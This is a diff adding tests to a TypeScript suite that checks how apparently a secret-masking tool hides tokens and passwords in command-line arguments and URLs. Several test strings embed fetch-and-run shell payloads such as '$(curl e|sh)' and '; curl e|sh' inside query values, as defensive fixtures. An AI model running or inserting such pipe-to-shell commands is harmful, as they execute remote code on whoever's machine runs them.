@@ -19,6 +19,12 @@ import {
 // 3. A telling query value written apart inside a quote, beside a run-time part (`"https://h/p?token=
 //    x${X:-Q9}$(id)"`): the word was written again in '…' (`'https://h/p?token=•$(id)'`), filled back
 //    `'https://h/p?token=xQ9$(id)'`. Each stretch written together is hidden where it stands now.
+// 4. An argument whose URL is not at its start (`["see https://h/p?token=a b"]`) was read as a line,
+//    cut at the blank: `b` shown and exported. An argument is one word: a URL after a blank runs to
+//    its end when the argument reads as no command line (no shell operator, no part left open), as a
+//    pasted quoted word's does (fix176), and the blank stands in its last query pair, a telling one
+//    (then all the text cut off is that value's: nothing the line reading hid is shown); the display
+//    keeps its run-time parts in sight.
 
 describe("a default's word mixing literal text and references or run-time parts", () => {
   it("given as an argument: each literal stretch hidden, the reference kept", () => {
@@ -93,5 +99,75 @@ describe("a telling query value written apart inside a quote, beside a run-time 
     expect(withoutCommandLineSecrets(line, () => "•")).toBe(shown);
     expect(exportedCommand(line)).toBe("srv --url https://h/p");
     expectFilledBack(line);
+  });
+});
+
+/** `text` without its references' names (`${V:-` and `}` aside, a default's word is looked at). */
+const outsideReferences = (text: string) => text.replace(/\$\{[A-Za-z_][A-Za-z0-9_]*(?::?[-=?+])?\}?/g, "");
+
+/** How often `text` writes the payload `curl e|sh`. */
+const payloadsIn = (text: string) => text.split("curl e|sh").length - 1;
+
+describe("an argument whose URL is not at its start", () => {
+  it("runs to the argument's end: the text after a blank hidden in both views", () => {
+    expectArgs(["see https://h/p?token=a b"], ["see https://h/p?token=•"], ["see https://h/p"]);
+    expectArgs(
+      ["see https://h/p?token=a $(curl e|sh) b"],
+      ["see https://h/p?token=•$(curl e|sh)•"],
+      ["see https://h/p"],
+    );
+    expectArgs(
+      ["--run", "srv --url https://h/p?token=a b"],
+      ["--run", "srv --url https://h/p?token=•"],
+      ["--run", "srv --url https://h/p"],
+    );
+  });
+
+  it("read as before otherwise: other values hidden, an operator's line word by word, a blank elsewhere", () => {
+    expectArgs(
+      ["host=db user=app password=X see https://u:pw@h/p x password=Y"],
+      ["host=db user=app password=• see https://•@h/p x password=•"],
+      ["host=db user=app password=${PASSWORD} see https://h/p x password=${PASSWORD_2}"],
+    );
+    expectArgs(
+      ["see https://h/p?token=a b; curl e|sh"],
+      ["see https://h/p?token=• b; curl e|sh"],
+      ["see https://h/p b; curl e|sh"],
+    );
+    // A blank in a userinfo: `password=`'s value is hidden to the argument's end, as before.
+    expectArgs(
+      ["x https://u: password=Y@h/p'Q9"],
+      ["x https://u: password=•"],
+      ["x https://u: password=${PASSWORD}"],
+    );
+  });
+
+  it("property: literal text, blanks and payloads in its telling value", () => {
+    const value = fc
+      .array(
+        fc.oneof(
+          fc.stringMatching(/^[JVQ]{1,3}$/),
+          fc.constantFrom(" ", "  ", "-", "%", "/", "$(curl e|sh)", "`curl e|sh`", "${X}"),
+        ),
+        { minLength: 1, maxLength: 8 },
+      )
+      .map((parts) => parts.join(""))
+      .filter((text) => /[JVQ]/.test(text));
+    const make = fc.constantFrom(
+      (v: string) => `see https://h/p?token=${v}`,
+      (v: string) => `see https://h/p/a?api_key=${v}`,
+      (v: string) => `x y https://h/p?b=1&c=2&token=${v}`,
+    );
+    fc.assert(
+      fc.property(make, value, (build, v) => {
+        const args = ["--run", build(v)];
+        expect(outsideReferences(JSON.stringify(exportedArgs(args)))).not.toMatch(/[JVQ]/);
+        const shown = JSON.stringify(withoutArgSecrets(args, () => "•"));
+        expect(outsideReferences(shown)).not.toMatch(/[JVQ]/);
+        expect(payloadsIn(shown)).toBe(payloadsIn(build(v)));
+        expectArgFilledBack(args);
+      }),
+      { numRuns: 300 },
+    );
   });
 });
